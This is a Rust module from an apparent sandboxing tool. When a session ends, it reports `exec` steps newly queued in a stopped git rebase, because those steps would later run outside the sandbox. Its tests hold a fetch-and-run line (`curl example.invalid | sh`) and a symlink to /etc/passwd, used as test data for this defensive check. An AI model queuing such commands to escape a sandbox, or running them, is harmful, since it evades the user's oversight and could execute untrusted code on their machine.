//! Commands a rebase the session left stopped would run when the user continues it.
//!
//! An interactive rebase keeps its remaining steps in `rebase-merge/git-rebase-todo` of
//! the git directory, and its `exec` (`x`) lines are shell commands git runs as it reaches
//! them. A rebase the sandbox leaves stopped (at a conflict, an `edit`, a `break`) with
//! such lines queued runs them outside any sandbox when the user types `git rebase
//! --continue`. The file is the rebase's working state, which git in the sandbox writes at
//! every step, so it cannot be a protected path; instead, when the session ends, fence
//! names every `exec` line queued there that was not there at its start.
//!
//! Policy, not a boundary: a notice on fence's transcript. The user's `git status` shows
//! the next steps too.

use std::collections::HashSet;
use std::io::Read;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};

/// Most bytes of a todo read (one line per commit rebased).
const MOST_TODO: u64 = 8 << 20;

/// Most lines named in a notice; after them, only their number.
const MOST_TOLD: usize = 5;

/// The `exec` lines queued when the session started, by todo file.
pub struct Queued {
    todos: Vec<(PathBuf, Option<HashSet<Vec<u8>>>)>,
}

/// What a todo holds: its `exec` lines, or why they could not be read.
enum Todo {
    Missing,
    Unreadable(String),
    Commands(HashSet<Vec<u8>>),
}

/// Records the `exec` lines queued now in the rebase state of `git_dir` (the worktree's
/// own git directory: a linked worktree's is `COMMON/worktrees/NAME`, where its rebase
/// state lives).
pub fn at_start(git_dir: Option<&Path>) -> Queued {
    let todos = git_dir
        .map(|dir| {
            let todo = dir.join("rebase-merge/git-rebase-todo");
            let before = match read(&todo) {
                Todo::Commands(lines) => Some(lines),
                Todo::Missing | Todo::Unreadable(_) => None,
            };
            (todo, before)
        })
        .into_iter()
        .collect();
    Queued { todos }
}

impl Queued {
    /// The lines to put on fence's transcript now that the sandbox has ended: one for each
    /// todo holding `exec` lines that were not queued at the start (or that cannot be read
    /// where it could not be at the start either).
    pub fn notices(&self) -> Vec<String> {
        let mut out = Vec::new();
        for (todo, before) in &self.todos {
            match read(todo) {
                Todo::Missing => {}
                Todo::Unreadable(why) => out.push(format!(
                    "a rebase is stopped and its steps cannot be read ({}: {why}): look at them before `git rebase --continue`, which runs any `exec` step outside the sandbox",
                    todo.display()
                )),
                Todo::Commands(now) => {
                    let mut new: Vec<&Vec<u8>> = now
                        .iter()
                        .filter(|l| !before.as_ref().is_some_and(|b| b.contains(*l)))
                        .collect();
                    if new.is_empty() {
                        continue;
                    }
                    new.sort();
                    let shown: Vec<String> = new
                        .iter()
                        .take(MOST_TOLD)
                        .map(|l| format!("`{}`", String::from_utf8_lossy(l)))
                        .collect();
                    let more = match new.len().saturating_sub(MOST_TOLD) {
                        0 => String::new(),
                        n => format!(" and {n} more"),
                    };
                    out.push(format!(
                        "the session left a rebase stopped with commands queued that `git rebase --continue` runs outside any sandbox: {}{more} (in {}); look at them first, or `git rebase --abort`",
                        shown.join(", "),
                        todo.display()
                    ));
                }
            }
        }
        out
    }
}

/// Reads the `exec` lines of the todo at `path`: not through a symbolic link (none can be
/// made in a `.git` folder in the sandbox), a regular file, at most [`MOST_TODO`] bytes.
fn read(path: &Path) -> Todo {
    let file = match std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK | libc::O_NOCTTY)
        .open(path)
    {
        Ok(f) => f,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Todo::Missing,
        Err(e) => return Todo::Unreadable(e.to_string()),
    };
    match file.metadata() {
        Ok(m) if m.is_file() => {}
        Ok(_) => return Todo::Unreadable("not a regular file".into()),
        Err(e) => return Todo::Unreadable(e.to_string()),
    }
    let mut bytes = Vec::new();
    if let Err(e) = file.take(MOST_TODO + 1).read_to_end(&mut bytes) {
        return Todo::Unreadable(e.to_string());
    }
    if bytes.len() as u64 > MOST_TODO {
        return Todo::Unreadable(format!("larger than {MOST_TODO} bytes"));
    }
    Todo::Commands(exec_lines(&bytes))
}

/// The commands of the `exec` steps of a todo, as git's sequencer reads them: a line's
/// leading blanks skipped, its command word `exec` or `x`, then blanks, then the command
/// (the rest of the line, a carriage return before its end dropped). A comment line
/// (`#`, or the repository's own comment character) has no command word of these.
fn exec_lines(todo: &[u8]) -> HashSet<Vec<u8>> {
    let blank = |c: &u8| *c == b' ' || *c == b'\t';
    todo.split(|c| *c == b'\n')
        .filter_map(|line| {
            let line = line.strip_suffix(b"\r").unwrap_or(line);
            let start = line.iter().position(|c| !blank(c))?;
            let line = &line[start..];
            let word_end = line.iter().position(blank).unwrap_or(line.len());
            if !matches!(&line[..word_end], b"exec" | b"x") {
                return None;
            }
            let rest = &line[word_end..];
            let command = &rest[rest.iter().position(|c| !blank(c))?..];
            Some(command.to_vec())
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exec_steps_are_read_as_git_reads_them() {
        let todo = b"pick 1a2b3c one\n  exec make test\r\nx\ttouch /tmp/p\n# exec not this\nexecute no\nx\nbreak\n";
        let mut lines: Vec<Vec<u8>> = exec_lines(todo).into_iter().collect();
        lines.sort();
        assert_eq!(lines, vec![b"make test".to_vec(), b"touch /tmp/p".to_vec()]);
    }

    #[test]
    fn only_commands_queued_in_the_session_are_told() {
        let dir = tempfile::tempdir().unwrap();
        let git = dir.path().join(".git");
        std::fs::create_dir_all(git.join("rebase-merge")).unwrap();
        let todo = git.join("rebase-merge/git-rebase-todo");
        // No rebase at the start: nothing to say while there is none.
        std::fs::remove_dir(git.join("rebase-merge")).unwrap();
        let queued = at_start(Some(&git));
        assert!(queued.notices().is_empty());
        std::fs::create_dir_all(git.join("rebase-merge")).unwrap();
        std::fs::write(&todo, "pick 1a2b3c one\nexec make test\n").unwrap();
        let told = queued.notices();
        assert_eq!(told.len(), 1);
        assert!(told[0].contains("`make test`"), "{told:?}");
        // Queued before the session: the user's own.
        let queued = at_start(Some(&git));
        assert!(queued.notices().is_empty());
        std::fs::write(&todo, "exec make test\nx curl example.invalid | sh\n").unwrap();
        let told = queued.notices();
        assert!(told[0].contains("`curl example.invalid | sh`"), "{told:?}");
        assert!(!told[0].contains("make test"), "{told:?}");
        // A todo that cannot be read is said to be there.
        std::fs::remove_file(&todo).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", &todo).unwrap();
        let told = queued.notices();
        assert!(told[0].contains("cannot be read"), "{told:?}");
    }
}
